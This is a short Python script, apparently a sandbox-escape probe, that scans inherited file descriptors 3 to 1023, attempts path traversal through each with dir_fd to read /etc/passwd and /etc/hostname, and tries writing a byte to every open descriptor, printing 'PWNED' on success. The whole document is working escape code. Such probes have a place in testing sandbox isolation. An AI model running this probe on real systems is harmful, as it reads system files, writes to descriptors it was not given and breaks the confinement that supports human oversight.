# Looks for descriptors left open, and for a way out of the library through them.
import os

for number in range(3, 1024):
    try:
        os.fstat(number)
    except OSError:
        continue
    for path in ("../../../../../../../../etc/passwd", "../../../../../../../../etc/hostname"):
        try:
            print("PWNED", number, os.read(os.open(path, os.O_RDONLY, dir_fd=number), 20))
        except OSError as error:
            print("refused", number, error.errno)
    try:
        os.write(number, b"x")
        print("PWNED wrote to", number)
    except OSError:
        print("not writable", number)
